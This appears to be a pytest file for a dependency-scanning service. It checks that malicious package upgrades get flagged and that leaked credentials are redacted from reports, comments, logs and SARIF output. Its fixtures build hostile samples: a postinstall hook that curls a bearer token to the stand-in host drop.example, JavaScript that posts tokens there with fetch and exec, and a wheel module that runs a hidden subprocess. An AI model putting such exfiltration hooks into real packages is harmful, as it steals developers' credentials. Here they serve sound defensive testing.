"""What archives hold and what is said of them: credentials are seen nowhere, two manifests and two artifacts differ."""

from __future__ import annotations

import json
import logging
from datetime import UTC, datetime

import pytest

from app.core.package import Package
from app.core.records import inspection_record, review_record
from app.core.terminal_text import review_lines
from app.demo.packages import sdist, wheel
from app.exports.sarif import sarif
from tests import minted
from tests.fakes.registry import digests
from tests.minted_forms import FORMS
from tests.stories.theatre import GREETER, Theatre, npm_files
from worker.inspection.engine import ENGINE


def test_a_credential_is_told_and_seen_nowhere(house: Theatre, caplog: pytest.LogCaptureFixture) -> None:
    """Facts, report, check, annotations, comment, review comment, terminal, log: all that leaves the sealed child."""
    caplog.set_level(logging.DEBUG)
    token, key = minted.with_crc("npm_", "canary"), minted.rsa_key()
    old = house.publish("left", "1.0.0")
    new = house.publish(
        "left",
        "1.0.1",
        {
            **GREETER,
            "lib/publish.js": f"require('child_process').exec('npm publish --token {token}');\n",
            "lib/key.js": f"module.exports = {json.dumps(key)};\n",
            ".npmrc": f"//registry.example/:_authToken={token}\n",
        },
        scripts={"postinstall": f"curl -H 'Authorization: Bearer {token}' https://drop.example"},
        license=f"see {token}",
    )
    repository = house.repository(npm_files({"left": ("1.0.0", old)}))
    pull = house.github.open_pull(repository, "Upgrade left", npm_files({"left": ("1.0.1", new)}))
    house.settle()

    check = house.check(pull)
    report_id = str(check.details_url).rpartition("/")[2] if check.details_url else ""
    report = house.store.reports.get(report_id)
    left = Package.parse("npm/left@1.0.1")
    tarball = house.registry.shelf.npm["left"]["1.0.1"].tarball
    facts = house.store.inspections.find("public", left, ENGINE, digests(tarball, "sha256"))
    assert report is not None
    assert facts is not None
    said = [
        str(check.title),
        str(check.summary),
        json.dumps(check.annotations),
        house.comment(pull),
        *(line.body for line in house.line_comments(pull)),
        json.dumps(review_record(report)),
        json.dumps(inspection_record("npm/left@1.0.1", report.reviewed[0], [facts])),
        *review_lines(report, verbose=True),
        repr(facts),
        caplog.text,
    ]
    assert "it ships an npm token" in str(check.summary)
    assert "it ships a private key" in str(check.summary)
    whole = "\n".join(said)
    for secret in (token, *key.split("\n")[1:-2]):
        assert all(secret[at : at + 12] not in whole for at in range(5, len(secret) - 12))


def test_no_credential_of_any_kind_is_seen_anywhere(house: Theatre, caplog: pytest.LogCaptureFixture) -> None:
    """One of every kind, in code that makes other facts of the same lines."""
    caplog.set_level(logging.DEBUG)
    tokens = {sample.credential: (sample, sample.mint("everywhere")) for sample in FORMS}
    code = {
        f"lib/{kind}.js": f"fetch('https://drop.example', {{ body: `{sample.text(token)}` }});\nexec('{sample.text(token)}');\n"
        for kind, (sample, token) in tokens.items()
    }
    index = "\n".join(f"require('./{path}');" for path in code)
    old = house.publish("left", "1.0.0")
    new = house.publish("left", "1.0.1", {**GREETER, **code, "index.js": index})
    repository = house.repository(npm_files({"left": ("1.0.0", old)}))
    pull = house.github.open_pull(repository, "Upgrade left", npm_files({"left": ("1.0.1", new)}))
    house.settle()

    check = house.check(pull)
    report = house.store.reports.get(str(check.details_url).rpartition("/")[2])
    tarball = house.registry.shelf.npm["left"]["1.0.1"].tarball
    left = Package.parse("npm/left@1.0.1")
    facts = house.store.inspections.find("public", left, ENGINE, digests(tarball, "sha256"))
    assert report is not None
    assert facts is not None
    told = {finding.finding.evidence[0].file for one in report.reviewed for finding in one.findings}
    whole = "\n".join(
        [
            str(check.summary),
            json.dumps(check.annotations),
            house.comment(pull),
            *(line.body for line in house.line_comments(pull)),
            json.dumps(review_record(report)),
            json.dumps(inspection_record("npm/left@1.0.1", report.reviewed[0], [facts])),
            *review_lines(report, verbose=True),
            sarif(report, datetime(2026, 1, 1, tzinfo=UTC)),
            repr(facts),
            caplog.text,
        ]
    )
    assert len(told & code.keys()) > 60, "as many as a report keeps"
    for kind, (_, token) in tokens.items():
        secret = token.split("\n")[1] if token.startswith("-----") else token
        assert all(secret[at : at + 12] not in whole for at in range(5, len(secret) - 12)), kind


def test_a_manifest_that_differs_is_told_again_when_its_facts_are_known(house: Theatre) -> None:
    shelf = house.registry.shelf
    old = house.publish("left", "1.0.0")
    new = house.publish("left", "1.0.1", GREETER, scripts={"postinstall": "node index.js"})
    shelf.put_npm("left", "1.0.1", shelf.npm["left"]["1.0.1"].tarball, scripts={})
    repository = house.repository(npm_files({"left": ("1.0.0", old)}))
    change = npm_files({"left": ("1.0.1", new)})

    for attempt in ("first", "second"):
        pull = house.github.open_pull(repository, f"Upgrade left, {attempt}", change)
        house.settle()
        assert "an install step that the registry does not show" in str(house.check(pull).summary)


def test_a_wheel_with_more_in_it_than_its_source_is_told(house: Theatre) -> None:
    shelf = house.registry.shelf
    code = {"greet/__init__.py": "def greet(name):\n    return f'Hello, {name}'\n"}
    more = {**code, "greet/_compat.py": "import subprocess\nsubprocess.run(['id'])\n"}
    for version, built in (("1.0", code), ("1.1", more)):
        shelf.put_pypi("greet", f"greet-{version}.tar.gz", sdist("greet", version, code))
        shelf.put_pypi("greet", f"greet-{version}-py3-none-any.whl", wheel("greet", version, built))
    repository = house.repository({"requirements.txt": "greet==1.0\n"})
    pull = house.github.open_pull(repository, "Upgrade greet", {"requirements.txt": "greet==1.1\n"})
    house.settle()

    check = house.check(pull)
    assert check.conclusion == "neutral"
    assert "its wheel can do what its source distribution does not show, in `greet/_compat.py`" in str(check.summary)
